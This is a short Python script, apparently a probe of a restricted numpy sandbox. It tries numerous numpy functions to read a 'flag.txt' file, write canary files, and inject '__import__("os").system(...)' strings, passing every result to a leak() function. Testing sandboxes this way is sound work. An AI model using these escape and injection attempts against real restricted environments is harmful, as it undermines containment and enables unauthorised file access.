# source: own
import numpy as np
a = np.zeros(2)
for call in (lambda: np.load('results/flag.txt'), lambda: np.loadtxt('results/flag.txt', dtype=str), lambda: np.genfromtxt('results/flag.txt'),
             lambda: np.fromfile('results/flag.txt', dtype=np.uint8), lambda: np.memmap('results/flag.txt'), lambda: np.fromregex('results/flag.txt', '(.*)', 'S9'),
             lambda: np.save('results/canary', a), lambda: np.savetxt('results/canary', a), lambda: a.tofile('results/canary'), lambda: a.dump('results/canary'),
             lambda: np.savez('results/canary', a), lambda: np.fromstring('__import__("os")', sep=' '), lambda: np.array('__import__("os")', dtype=float),
             lambda: np.frombuffer(open('results/flag.txt', 'rb').read(), dtype=np.uint8).tobytes().decode(), lambda: np.array('results/flag.txt'),
             lambda: np.lib.npyio, lambda: np.lib.format, lambda: np.source(np.sum), lambda: np.info(np.sum), lambda: np.show_config(),
             lambda: np.einsum('__import__("os").system("touch results/canary")', a), lambda: np.poly1d('exec')):
    try:
        found = call()
        leak(found)
        leak(str(found))
    except BaseException as e:
        leak(str(e))
